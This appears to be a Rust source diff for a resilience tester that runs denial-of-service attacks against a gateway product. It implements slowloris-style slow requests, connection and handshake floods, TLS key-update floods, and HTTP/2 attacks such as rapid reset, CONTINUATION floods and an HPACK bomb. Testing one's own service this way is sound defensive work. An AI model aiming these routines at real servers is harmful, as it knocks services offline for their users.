@@ -1,0 +1,323 @@
+//! What strangers and ill-meaning callers do. Each is a round on a connection or some: it ends with a failure when the
+//! product ends it, and is begun anew.
+
+use std::collections::VecDeque;
+use std::io::{Read, Write};
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::time::Duration;
+
+use crate::client::{Stream, Target};
+use crate::failure::Failure;
+use crate::http2::{
+    self, CONTINUATION, DATA, END_STREAM, HEADERS, LAST, NO_WINDOW, PING, PRIORITY, RST_STREAM, SETTINGS, UNKNOWN,
+    WINDOW_UPDATE, frame, remembered, request,
+};
+
+pub(super) struct Attack {
+    pub(super) name: &'static str,
+    /// How many do it at a time, each a thread.
+    pub(super) attackers: usize,
+    pub(super) run: fn(&Target, usize, &AtomicBool) -> Result<(), Failure>,
+}
+
+const fn attack(
+    name: &'static str,
+    attackers: usize,
+    run: fn(&Target, usize, &AtomicBool) -> Result<(), Failure>,
+) -> Attack {
+    Attack { name, attackers, run }
+}
+
+pub(super) const ATTACKS: &[Attack] = &[
+    attack("slow-hello", 1, slow_hello),
+    attack("slow-heads", 1, slow_heads),
+    attack("slow-bodies", 1, slow_bodies),
+    attack("slow-bodies-of-strangers", 1, slow_bodies_of_strangers),
+    attack("slow-readers", 8, slow_reader),
+    attack("idle-flood", 1, idle_flood),
+    attack("handshakes", 4, handshakes),
+    attack("abandoned-handshakes", 4, abandoned_handshakes),
+    attack("tiny-records", 4, tiny_records),
+    attack("key-updates", 4, key_updates),
+    attack("large-heads", 4, large_heads),
+    attack("refusals", 4, refusals),
+    attack("h2-refusals", 4, |target, _, stop| flood(target, stop, &[], |id| strangers_request(target, id))),
+    attack("h2-rapid-reset", 4, |target, _, stop| {
+        flood(target, stop, &[], |id| {
+            let mut frames = headers(target, id, END_STREAM);
+            frames.extend(frame(RST_STREAM, 0, id, &[0, 0, 0, 8]));
+            frames
+        })
+    }),
+    attack("h2-made-you-reset", 4, |target, _, stop| {
+        flood(target, stop, &[], |id| {
+            let mut frames = headers(target, id, END_STREAM);
+            // An update of nothing is an error of its stream (RFC 9113 §6.9).
+            frames.extend(frame(WINDOW_UPDATE, 0, id, &[0; 4]));
+            frames
+        })
+    }),
+    attack("h2-too-many-streams", 4, |target, _, stop| {
+        flood(target, stop, NO_WINDOW, |id| headers(target, id, END_STREAM))
+    }),
+    attack("h2-no-window", 2, |target, _, stop| no_window(target, stop)),
+    attack("h2-ping", 4, |target, _, stop| flood(target, stop, &[], |_| frame(PING, 0, 0, &[7; 8]))),
+    attack("h2-settings", 4, |target, _, stop| flood(target, stop, &[], |_| frame(SETTINGS, 0, 0, &[]))),
+    attack("h2-window-updates", 4, |target, _, stop| {
+        flood(target, stop, &[], |_| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]))
+    }),
+    attack("h2-priority", 4, |target, _, stop| flood(target, stop, &[], |_| frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1]))),
+    attack("h2-unknown", 4, |target, _, stop| flood(target, stop, &[], |_| frame(UNKNOWN, 0, 0, &[]))),
+    attack("h2-empty-data", 4, |target, _, stop| {
+        begun(target, stop, |target| headers_of(target, "POST", "/echo", 1, 0), || frame(DATA, 0, 1, &[]))
+    }),
+    attack("h2-tiny-data", 4, |target, _, stop| {
+        begun(target, stop, |target| headers_of(target, "POST", "/echo", 1, 0), || frame(DATA, 0, 1, b"x"))
+    }),
+    attack("h2-continuation", 4, |target, _, stop| {
+        begun(target, stop, |_| frame(HEADERS, 0, 1, &[0x87]), || frame(CONTINUATION, 0, 1, &[]))
+    }),
+    attack("h2-hpack-bomb", 4, |target, _, stop| {
+        let bomb = [vec![LAST; 16_000], request("GET", &target.host, "/", None)].concat();
+        flood(target, stop, &[], move |id| {
+            let field = remembered("x", &"y".repeat(3_900));
+            let block = [&field[..], &bomb[..16_000 - field.len()]].concat();
+            http2::headers(id, END_STREAM, &block)
+        })
+    }),
+    attack("h2-large-heads", 4, |target, _, stop| {
+        let mut block = request("GET", &target.host, "/", None);
+        for _ in 0..12 {
+            block.extend([0x00, 1, b'x', 127, 0xe9, 0x07]);
+            block.extend(vec![b'y'; 127 + 0x69 + 7 * 128]);
+        }
+        flood(target, stop, &[], move |id| http2::headers(id, END_STREAM, &block))
+    }),
+];
+
+/// Bytes of one write: what the product may find waiting.
+const CHUNK: usize = 32 * 1024;
+const DRIP: Duration = Duration::from_millis(200);
+/// Connections that one attacker has open before it abandons the oldest.
+const ABANDONED_AFTER: usize = 200;
+/// Between two connections of a flood: their handshakes are another attack.
+const BREATH: Duration = Duration::from_millis(50);
+
+fn headers(target: &Target, stream: u32, flags: u8) -> Vec<u8> {
+    headers_of(target, "GET", "/hello", stream, flags)
+}
+
+fn headers_of(target: &Target, method: &str, path: &str, stream: u32, flags: u8) -> Vec<u8> {
+    http2::headers(stream, flags, &request(method, &target.host, path, Some(&target.service_key)))
+}
+
+fn strangers_request(target: &Target, stream: u32) -> Vec<u8> {
+    http2::headers(stream, END_STREAM, &request("GET", &target.host, "/", None))
+}
+
+/// An HTTP/2 connection that has said hello.
+fn speak_http2(target: &Target, settings: &[u8]) -> Result<Stream, Failure> {
+    http2::begin(target.open(&[b"h2"])?, settings)
+}
+
+/// Sends `next` for one stream after another until the product has had enough. Reads nothing.
+fn flood(target: &Target, stop: &AtomicBool, settings: &[u8], next: impl Fn(u32) -> Vec<u8>) -> Result<(), Failure> {
+    let mut id = 1;
+    send(speak_http2(target, settings)?, stop, || {
+        id += 2;
+        next(id - 2)
+    })
+}
+
+/// Sends `first`, then `more` until the product has had enough. Reads nothing.
+fn begun(
+    target: &Target,
+    stop: &AtomicBool,
+    first: fn(&Target) -> Vec<u8>,
+    more: fn() -> Vec<u8>,
+) -> Result<(), Failure> {
+    let mut stream = speak_http2(target, &[])?;
+    stream.write_all(&first(target))?;
+    send(stream, stop, more)
+}
+
+fn send(mut stream: Stream, stop: &AtomicBool, mut next: impl FnMut() -> Vec<u8>) -> Result<(), Failure> {
+    // Whoever is not read from any more finds out soon.
+    stream.sock.set_write_timeout(Some(Duration::from_secs(1)))?;
+    let sent = (|| {
+        while !stop.load(Ordering::Relaxed) {
+            let mut chunk = Vec::with_capacity(2 * CHUNK);
+            while chunk.len() < CHUNK {
+                chunk.extend(next());
+            }
+            stream.write_all(&chunk)?;
+            stream.flush()?;
+        }
+        Ok(())
+    })();
+    std::thread::sleep(BREATH);
+    sent
+}
+
+/// Opens `count` connections by `open` and sends `drop_by_drop` on each, a byte at a time, until they all have ended.
+fn drip(
+    stop: &AtomicBool,
+    count: usize,
+    mut open: impl FnMut() -> Result<Stream, Failure>,
+    drop_by_drop: &[u8],
+) -> Result<(), Failure> {
+    let mut streams = (0..count).map(|_| open()).collect::<Result<Vec<_>, _>>()?;
+    for byte in drop_by_drop.iter().cycle() {
+        streams.retain_mut(|stream| stream.write_all(&[*byte]).and_then(|()| stream.flush()).is_ok());
+        if streams.is_empty() {
+            return Err(Failure::new("all ended"));
+        }
+        std::thread::sleep(DRIP);
+        if stop.load(Ordering::Relaxed) {
+            break;
+        }
+    }
+    Ok(())
+}
+
+fn slow_hello(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
+    let hello = target.hello()?;
+    let mut sockets = (0..200).map(|_| target.socket()).collect::<Result<Vec<_>, _>>()?;
+    for byte in &hello {
+        sockets.retain_mut(|socket| socket.write_all(&[*byte]).is_ok());
+        if sockets.is_empty() {
+            return Err(Failure::new("all ended"));
+        }
+        std::thread::sleep(DRIP);
+        if stop.load(Ordering::Relaxed) {
+            break;
+        }
+    }
+    Ok(())
+}
+
+fn slow_heads(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
+    drip(stop, 200, || target.open(&[b"http/1.1"]), b"GET /a HTTP/1.1x")
+}
+
+fn slow_bodies(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
+    let head =
+        |key: &str| format!("POST /echo HTTP/1.1\r\nHost: {}\r\n{key}Content-Length: 1000000\r\n\r\n", target.host);
+    let key = format!("X-Gw-Service-Key: {}\r\n", target.service_key);
+    // Fewer than the agent has slots.
+    drip(stop, 100, || begin(target, &head(&key)), b"x")
+}
+
+fn slow_bodies_of_strangers(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
+    let head = format!("POST /echo HTTP/1.1\r\nHost: {}\r\nContent-Length: 1000000\r\n\r\n", target.host);
+    drip(stop, 200, || begin(target, &head), b"x")
+}
+
+fn begin(target: &Target, head: &str) -> Result<Stream, Failure> {
+    let mut stream = target.open(&[b"http/1.1"])?;
+    stream.write_all(head.as_bytes())?;
+    stream.flush()?;
+    Ok(stream)
+}
+
+fn slow_reader(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
+    let key = &target.service_key;
+    let head = format!("GET /bytes/1000000000 HTTP/1.1\r\nHost: {}\r\nX-Gw-Service-Key: {key}\r\n\r\n", target.host);
+    let mut stream = begin(target, &head)?;
+    while !stop.load(Ordering::Relaxed) {
+        stream.read_exact(&mut [0; 100])?;
+        std::thread::sleep(DRIP);
+    }
+    Ok(())
+}
+
+fn idle_flood(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
+    let mut streams = Vec::new();
+    while streams.len() < 2000 && !stop.load(Ordering::Relaxed) {
+        streams.push(target.open(&[b"http/1.1"])?);
+    }
+    while !stop.load(Ordering::Relaxed) {
+        std::thread::sleep(DRIP);
+    }
+    Ok(())
+}
+
+fn handshakes(target: &Target, _: usize, _: &AtomicBool) -> Result<(), Failure> {
+    target.open(&[b"http/1.1"]).map(drop)
+}
+
+/// The product signs and agrees on keys; this costs the attacker a write.
+fn abandoned_handshakes(target: &Target, number: usize, stop: &AtomicBool) -> Result<(), Failure> {
+    let hello = target.hello()?;
+    // Kept long enough for the answer, and then gone without a trace: ports would run out.
+    let mut waiting = VecDeque::with_capacity(ABANDONED_AFTER);
+    while !stop.load(Ordering::Relaxed) {
+        if waiting.len() == ABANDONED_AFTER {
+            waiting.pop_front();
+        }
+        let mut socket = target.socket_from(1 + number)?;
+        socket2::SockRef::from(&socket).set_linger(Some(Duration::ZERO))?;
+        socket.write_all(&hello)?;
+        waiting.push_back(socket);
+    }
+    Ok(())
+}
+
+/// A request with a byte in each record.
+fn tiny_records(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
+    let key = &target.service_key;
+    let head = format!(
+        "POST /echo HTTP/1.1\r\nHost: {}\r\nX-Gw-Service-Key: {key}\r\nContent-Length: 1000000\r\n\r\n",
+        target.host
+    );
+    let mut stream = begin(target, &head)?;
+    for _ in 0..100_000 {
+        stream.conn.writer().write_all(b"x")?;
+        if stop.load(Ordering::Relaxed) {
+            break;
+        }
+        if stream.conn.writer().flush().is_ok() && stream.conn.wants_write() {
+            stream.conn.write_tls(&mut stream.sock)?;
+        }
+    }
+    Ok(())
+}
+
+fn key_updates(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
+    let mut stream = target.open(&[b"http/1.1"])?;
+    while !stop.load(Ordering::Relaxed) {
+        stream.conn.refresh_traffic_keys()?;
+        stream.flush()?;
+    }
+    Ok(())
+}
+
+fn large_heads(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
+    let mut stream = begin(target, "GET / HTTP/1.1\r\n")?;
+    let field = format!("X: {}\r\n", "y".repeat(1000)).repeat(16);
+    while !stop.load(Ordering::Relaxed) {
+        stream.write_all(field.as_bytes())?;
+        stream.flush()?;
+    }
+    Ok(())
+}
+
+fn refusals(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
+    let stream = target.open(&[b"http/1.1"])?;
+    let request = format!("GET / HTTP/1.1\r\nHost: {}\r\n\r\n", target.host).into_bytes();
+    send(stream, stop, || request.clone())
+}
+
+/// Requests whose answers it takes no byte of, as many as one connection may have.
+fn no_window(target: &Target, stop: &AtomicBool) -> Result<(), Failure> {
+    let mut stream = speak_http2(target, NO_WINDOW)?;
+    // Together fewer than the agent has slots.
+    for number in 0..50 {
+        stream.write_all(&headers_of(target, "GET", "/bytes/1000000000", 2 * number + 1, END_STREAM))?;
+    }
+    stream.flush()?;
+    while !stop.load(Ordering::Relaxed) {
+        std::thread::sleep(DRIP);
+    }
+    Ok(())
+}
